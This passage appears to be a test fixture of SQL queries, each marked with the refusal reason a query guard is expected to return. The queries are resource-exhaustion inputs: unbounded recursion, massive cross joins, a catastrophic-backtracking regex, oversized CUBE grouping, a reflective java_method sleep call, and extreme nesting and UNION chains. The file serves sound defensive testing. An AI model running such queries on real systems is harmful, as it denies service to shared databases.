SELECT transform(sequence(1, 1000000), x -> sequence(1, 1000000))

-- refuse: policy_refused
SELECT stack(1000000, 1, 2)

-- refuse: policy_refused
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r

-- refuse: policy_refused
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE true) SELECT * FROM r

-- refuse: policy_refused
SELECT count(*) FROM order_lines a, order_lines b, order_lines c, order_lines d, order_lines e, order_lines f

-- refuse: policy_refused
SELECT rlike(repeat('a', 5000), '(a+)+$b')

-- refuse: policy_refused
SELECT count(*) FROM orders GROUP BY CUBE (order_id, customer_id, store_id, ordered, status, priority, remark, order_id + 1, order_id + 2)

-- refuse: policy_refused
SELECT count(*) FROM orders GROUP BY order_id, customer_id, store_id, ordered, status, priority, remark, order_id + 1, order_id + 2 WITH CUBE

-- refuse: policy_refused
SELECT java_method('java.lang.Thread', 'sleep', 100000L)

-- refuse: policy_refused
SELECT sleep(100)

-- refuse: invalid_sql
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))

-- refuse: invalid_sql
SELECT array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(array(1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))

-- refuse: invalid_sql
SELECT 1 FROM orders JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b JOIN stock b

-- refuse: invalid_sql
SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 